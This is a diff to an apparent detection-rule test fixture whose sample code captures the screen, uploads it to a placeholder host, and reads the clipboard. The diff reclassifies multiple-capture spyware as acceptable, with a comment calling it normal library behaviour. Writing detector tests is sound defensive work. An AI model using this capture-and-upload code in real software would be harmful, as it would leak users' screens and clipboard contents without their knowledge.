@@ -10,13 +10,14 @@ from PIL import ImageGrab
 
 def snap():
     buf = io.BytesIO()
-    # ruleid: SCREEN_CAPTURE, SPYWARE_MULTIPLE_CAPTURES, SPYWARE_WITH_UPLOAD, screen_capture
+    # ruleid: SCREEN_CAPTURE, SPYWARE_WITH_UPLOAD, screen_capture
     ImageGrab.grab().save(buf, "PNG")
     # ruleid: SPYWARE_WITH_UPLOAD
     urllib.request.urlopen("https://example.invalid/s", buf.getvalue(), timeout=5)
 
 
 def clip():
-    # ruleid: CLIPBOARD_READ, SPYWARE_MULTIPLE_CAPTURES, SPYWARE_WITH_UPLOAD, clipboard_read
+    # ruleid: CLIPBOARD_READ, SPYWARE_WITH_UPLOAD, clipboard_read
     return pyperclip.paste()
-# ok: SPYWARE_TO_EXFIL_SERVICE, SPYWARE_AT_IMPORT, KEYSTROKE_CAPTURE, CLIPBOARD_CRYPTO_SWAP
+# Screen plus clipboard without keystrokes is what imaging libraries do.
+# ok: SPYWARE_TO_EXFIL_SERVICE, SPYWARE_AT_IMPORT, KEYSTROKE_CAPTURE, CLIPBOARD_CRYPTO_SWAP, SPYWARE_MULTIPLE_CAPTURES
